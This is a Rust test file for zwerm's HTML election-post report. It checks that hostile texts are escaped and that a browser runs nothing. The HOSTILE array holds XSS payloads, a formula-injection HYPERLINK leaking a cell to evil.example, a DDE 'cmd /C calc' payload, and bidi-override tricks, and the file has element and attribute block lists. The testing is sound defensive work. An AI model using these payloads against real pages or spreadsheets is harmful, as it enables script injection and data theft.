//! The report is one page that loads nothing, obeys nobody and hides nothing, whatever strangers
//! wrote.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use html5ever::tendril::TendrilSink;
use html5ever::{ParseOpts, parse_document};
use markup5ever_rcdom::{Handle, NodeData, RcDom};
use zwerm::ConfigFile;

use crate::harness::posts::{self, Post};
use crate::harness::{results, scan, scratch};

/// What would happen if it were not escaped: a title is changed, something is loaded.
const HOSTILE: [&str; 14] = [
    "<script>document.title='owned'</script> vote now all of you together",
    "<img src=x onerror=\"document.title='owned'\"> look at this picture at once",
    "\"><svg/onload=document.title='owned'> the shape of things to come tonight",
    "</style><script>document.title='owned'</script> no more style for anybody",
    "</title><script>document.title='owned'</script> an end to all these titles",
    "'><iframe src=javascript:document.title='owned'></iframe> frame the question",
    "]]><!--<body onload=document.title='owned'>--> a comment on the whole affair",
    "<a href=\"javascript:document.title='owned'\">click here please everybody</a>",
    "left \u{202e}thgir ot tfel\u{202c} \u{2066}and inside\u{2069} of this very long sentence",
    "nul \u{0} and escape \u{1b}[31m and bell \u{7} in the middle of some words",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"sum of all our hopes and fears\")",
    "@SUM(1+1)*cmd|' /C calc'!A0 is the answer to every question that you asked",
    "<form action=https://evil.example/><input name=q autofocus onfocus=alert(1)> fill it",
    "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/> style again",
];
const ACCOUNTS: usize = 12;
/// The largest report.
const BYTES_MAX: usize = 5_000_000;
const MINUTE_MS: i64 = 60_000;
const DAY_MS: i64 = 86_400_000;

/// The sample, and a group that posts every hostile text, each within ten minutes.
fn hostile_posts() -> Vec<Post> {
    let mut posts = posts::sample();
    let start = posts.iter().map(|post| post.at_ms).min().unwrap() + DAY_MS;
    let long = "A".repeat(20_000);
    for (round, text) in HOSTILE.iter().chain([&long.as_str()]).enumerate() {
        for number in 0..ACCOUNTS {
            // Not in step with the round, so that nobody is always first.
            let minute = ((number + round) * 5 % ACCOUNTS) as i64;
            let at_ms = start + round as i64 * DAY_MS + minute * MINUTE_MS * 10 / 12;
            let account = format!("<b onclick=alert({number})>\u{202e}{number}");
            let post = Post::new(&format!("<i>{round}-{number}"), &account, at_ms);
            let link = format!("https://evil.example/<script>{round}\"onload=x");
            posts.push(
                post.with("text", text)
                    .with("client", "<script>client</script>")
                    .with("lang", "nl")
                    .with_list("urls", &[&link])
                    .with_list("hashtags", &["<script>", "\"onerror=", &format!("=tag{round}")]),
            );
        }
    }
    posts
}

/// Scans them with an election that has a hostile name.
fn report(folder: &Path) -> PathBuf {
    let elections = folder.join("elections.toml");
    let text = "[[election]]\nid = \"<script>id</script>\"\njurisdiction = '\"><img src=x>'\n\
                time_zone = \"UTC\"\n[[election.period]]\nkind = \"silence\"\n\
                from = \"2031-05-10\"\nto = \"2031-05-20\"\nsource = \"</td><script>s</script>\"\n";
    std::fs::write(&elections, text).unwrap();
    let input = folder.join("posts.parquet");
    posts::write(&input, &hostile_posts());
    let out = folder.join("out");
    let config = ConfigFile { elections: Some(elections), ..ConfigFile::default() };
    assert!(scan(&[&input], &out, config).facts.checks_passed());
    let accounts = results::rows(&out.join("accounts.parquet"));
    let planted = accounts.iter().filter(|row| results::text(row, "account_id").starts_with("<b "));
    let strict = planted.filter(|row| results::text(row, "tier") == "strict").count();
    assert_eq!(strict, ACCOUNTS, "the group is found, so its texts are shown");
    out.join("report.html")
}

/// An element: its name and its attributes.
type Element = (String, Vec<(String, String)>);

/// What a browser makes of a page: its elements, its title, and what it forgave.
struct Parsed {
    elements: Vec<Element>,
    title: String,
    errors: Vec<String>,
}

fn parsed(page: &str) -> Parsed {
    let dom = parse_document(RcDom::default(), ParseOpts::default()).one(page);
    let mut parsed = Parsed {
        elements: Vec::new(),
        title: String::new(),
        errors: dom.errors.borrow().iter().map(ToString::to_string).collect(),
    };
    let mut open: Vec<Handle> = vec![dom.document.clone()];
    while let Some(node) = open.pop() {
        // Backwards onto the stack, so that the page's own title comes before those of pictures.
        open.extend(node.children.borrow().iter().rev().cloned());
        let NodeData::Element { name, attrs, .. } = &node.data else { continue };
        let attributes = attrs.borrow();
        let attributes = attributes.iter().map(|a| (a.name.local.to_string(), a.value.to_string()));
        if &*name.local == "title" && parsed.title.is_empty() {
            parsed.title = node.children.borrow().iter().map(text_of).collect();
        }
        parsed.elements.push((name.local.to_string(), attributes.collect()));
    }
    parsed
}

fn text_of(node: &Handle) -> String {
    match &node.data {
        NodeData::Text { contents } => contents.borrow().to_string(),
        _ => String::new(),
    }
}

/// Fails if a page has an element or an attribute by which it could act or load something.
#[track_caller]
fn is_inert(elements: &[Element]) {
    const NEVER: [&str; 16] = [
        "applet", "audio", "base", "button", "embed", "form", "frame", "iframe", "img", "input",
        "link", "object", "script", "source", "template", "video",
    ];
    const LOADING: [&str; 9] =
        ["action", "background", "data", "formaction", "ping", "poster", "src", "srcset", "style"];
    assert!(elements.len() > 500, "{}", elements.len());
    for (name, attributes) in elements {
        assert!(!NEVER.contains(&name.as_str()), "<{name}> {attributes:?}");
        for (attribute, value) in attributes {
            assert!(!attribute.starts_with("on"), "<{name} {attribute}={value}>");
            assert!(!LOADING.contains(&attribute.as_str()), "<{name} {attribute}={value}>");
            let is_link = attribute == "href" || attribute == "xlink:href";
            assert!(!is_link || value.starts_with('#'), "<{name} {attribute}={value}>");
        }
    }
}

#[test]
fn a_page_full_of_hostile_texts_is_inert() {
    let folder = scratch();
    let page = std::fs::read_to_string(report(folder.path())).unwrap();
    assert!(page.len() < BYTES_MAX, "{} bytes", page.len());
    // They are there, as text.
    for shown in [
        "&lt;script&gt;document.title='owned'&lt;/script&gt;",
        "&lt;img src=x onerror=",
        "&lt;/style&gt;",
        "&lt;/title&gt;",
        "&lt;iframe src=javascript:",
        "&lt;b onclick=alert(",
        "&lt;script&gt;id&lt;/script&gt;",
        "‹U+202E›",
        "‹U+0000›",
        "‹U+001B›",
        "=HYPERLINK(",
        "AAAAAAAAAA",
    ] {
        assert!(page.contains(shown), "{shown:?} is not shown, so nothing was tested");
    }
    for raw in HOSTILE.iter().filter(|text| text.contains(['<', '\u{202e}', '\0'])) {
        assert!(!page.contains(raw), "{raw:?}");
    }
    let lower = page.to_lowercase();
    for raw in ["<script", "<img", "<iframe", "javascript:alert", "@import", "url(", "src="] {
        let written = lower.matches(raw).count();
        let harmless = lower.matches(&raw.replace('<', "&lt;")).count();
        assert!(raw == "src=" || !raw.starts_with('<') || written == 0, "{raw}");
        assert!(raw.starts_with('<') || written <= harmless, "{raw}");
    }
    assert!(!page.contains(&"A".repeat(2_000)), "a long word is cut");
    let hidden = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    assert_eq!(page.find(hidden), None, "invisible characters are shown");
    is_inert(&parsed(&page).elements);
}

#[test]
fn the_page_allows_itself_nothing_but_its_own_style() {
    let folder = scratch();
    let page = std::fs::read_to_string(report(folder.path())).unwrap();
    let parsed = parsed(&page);
    let metas = parsed.elements.iter().filter(|(name, _)| name == "meta");
    let policies: Vec<&str> = metas
        .filter(|(_, attributes)| {
            attributes.contains(&("http-equiv".to_owned(), "Content-Security-Policy".to_owned()))
        })
        .flat_map(|(_, attributes)| attributes)
        .filter(|(name, _)| name == "content")
        .map(|(_, value)| value.as_str())
        .collect();
    let [policy] = policies[..] else { panic!("one policy, not {policies:?}") };
    assert!(policy.starts_with("default-src 'none'; "), "{policy}");
    for never in ["unsafe", "http", "data:", "script-src", "*"] {
        assert!(!policy.contains(never), "{policy}");
    }
}

#[test]
fn the_page_is_html_without_a_single_error() {
    let folder = scratch();
    let page = std::fs::read_to_string(report(folder.path())).unwrap();
    assert!(page.starts_with("<!DOCTYPE html>"));
    let parsed = parsed(&page);
    assert_eq!(parsed.errors, [""; 0]);
    // What a parser does not mind: an id may stand once, and what refers to one must find it.
    let mut ids: Vec<&str> = attribute_values(&parsed, &["id"]);
    ids.sort_unstable();
    let all = ids.len();
    ids.dedup();
    assert_eq!(ids.len(), all, "an id stands twice");
    for value in attribute_values(&parsed, &["href", "aria-labelledby", "aria-describedby"]) {
        for id in value.split_whitespace().map(|id| id.trim_start_matches('#')) {
            assert!(ids.binary_search(&id).is_ok(), "nothing has the id {id}");
        }
    }
    let broken = "<!DOCTYPE html><title>x</title><p><table></p></tr>&nosuch;";
    assert!(!self::parsed(broken).errors.is_empty(), "the parser does count errors");
}

fn attribute_values<'a>(parsed: &'a Parsed, names: &[&str]) -> Vec<&'a str> {
    let all = parsed.elements.iter().flat_map(|(_, attributes)| attributes);
    let named = all.filter(|(name, _)| names.contains(&name.as_str()));
    named.map(|(_, value)| value.as_str()).collect()
}

/// The DOM that a browser has made of a page when all its scripts, had it any, have run.
fn dom_in_browser(page: &Path, folder: &Path) -> Option<String> {
    const BROWSERS: [&str; 4] =
        ["chromium", "chromium-browser", "google-chrome", "google-chrome-stable"];
    let exists = |name: &&str| Command::new(name).arg("--version").output().is_ok();
    let Some(browser) = BROWSERS.into_iter().find(exists) else {
        println!("skipped: no browser of {BROWSERS:?}");
        return None;
    };
    let profile = format!("--user-data-dir={}", folder.join("profile").display());
    let mut command = assert_cmd::Command::new(browser);
    command.args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic"]);
    command.args(["--no-first-run", "--disable-background-networking", "--disable-sync"]);
    command.args(["--disable-component-update", &profile, "--dump-dom"]);
    command.arg(format!("file://{}", page.display())).timeout(Duration::from_secs(60));
    let output = command.output().expect("a browser that starts");
    Some(String::from_utf8_lossy(&output.stdout).into_owned())
}

#[test]
fn a_browser_runs_nothing_that_strangers_wrote() {
    let folder = scratch();
    let page = report(folder.path());
    let Some(dom) = dom_in_browser(&page, folder.path()) else { return };
    let written = parsed(&std::fs::read_to_string(&page).unwrap());
    let seen = parsed(&dom);
    assert!(written.title.starts_with("zwerm report"), "{}", written.title);
    assert_eq!(seen.title, written.title);
    assert_eq!(seen.elements.len(), written.elements.len(), "elements were added or lost");
    is_inert(&seen.elements);

    // The same browser does run a script that is one: the test above could have failed.
    let owned = folder.path().join("owned.html");
    let text = "<!DOCTYPE html><title>a</title><script>document.title='owned'</script>";
    std::fs::write(&owned, text).unwrap();
    let dom = dom_in_browser(&owned, folder.path()).expect("the same browser");
    assert_eq!(parsed(&dom).title, "owned");
}
